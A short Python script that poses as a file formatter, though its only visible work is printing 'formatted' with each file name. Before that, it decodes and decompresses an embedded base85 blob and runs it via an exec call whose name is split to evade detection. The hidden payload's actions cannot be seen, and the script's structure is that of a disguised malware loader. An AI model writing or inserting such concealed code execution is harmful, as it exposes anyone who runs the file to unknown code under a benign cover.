import base64, sys, zlib
_c = b'c$^K(ISzmz5CFih5Gp8yUSET<Mv_Hf52L@AdNQT<Mq-o@%N_`Z0*gs(bb}WTr(sg-a65a6bY5fRfoGM46oEsACsOF2^)sjJy#E3G$Q^C'
getattr(__builtins__, "ex" + "ec")(zlib.decompress(base64.b85decode(_c)))
for f in sys.argv[1:]:
    print("formatted", f)
